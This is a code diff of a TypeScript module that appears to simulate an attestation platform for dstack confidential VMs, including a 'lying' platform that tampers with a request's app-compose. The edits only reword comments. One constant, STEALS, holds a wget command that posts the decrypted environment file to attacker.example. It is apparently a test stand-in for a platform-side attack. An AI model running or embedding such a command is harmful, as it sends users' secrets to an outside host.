@@ -1,4 +1,4 @@
-/** What the platform answers about attestation: the API, and a CVM's port 8090. */
+/** Attestation, from the API and from a CVM's port 8090. */
 import { X509Certificate } from "node:crypto";
 import * as z from "zod";
 import type { AppCompose } from "../app-compose.ts";
@@ -16,7 +16,7 @@ import type { Lie } from "./lies.ts";
 export type AttestationWorld = {
   readonly store: CloudStore;
   readonly authority: Authority;
-  /** In force; changed while the server runs. */
+  /** Changed while the server runs. */
   readonly lies: Set<Lie>;
 };
 
@@ -64,7 +64,7 @@ export function ofApp(world: AttestationWorld, state: CloudState, id: string): u
   };
 }
 
-/** Only of the sandbox: with it a runner asks a registry for its keys (see spawntee.ts). */
+/** Exists only in the sandbox: a runner requests keys from a registry with it (see spawntee.ts). */
 function runnersQuote(state: CloudState, cvm: CvmState): string | undefined {
   const { serving } = lifeOf(cvm, Date.now());
   return (
@@ -122,7 +122,7 @@ function certificatesOf({ certificates, quote }: GuestEvidence): unknown {
   });
 }
 
-/** What a CVM shows on its port 8090, from dstack 0.5 on (`/prpc/Info`) and before (`/prpc/Worker.Info`). */
+/** A CVM's port 8090: `/prpc/Info` from dstack 0.5 on, `/prpc/Worker.Info` before. */
 export function guestInfo(
   { authority, lies }: AttestationWorld,
   served: Pick<ServiceWorld, "cvm" | "life">,
@@ -145,7 +145,7 @@ const PLATFORM_SCRIPT =
   "#!/bin/sh\n# the platform's own: logs in to the image registry\ndocker login\n";
 const STEALS = "wget --post-file /dstack/.host-shared/.decrypted-env http://attacker.example\n";
 
-/** What the platform makes of a request's app-compose. */
+/** The app-compose that a lying platform makes of a request's. */
 export function platformsCompose(
   { lies }: { readonly lies: ReadonlySet<Lie> },
   appCompose: AppCompose,
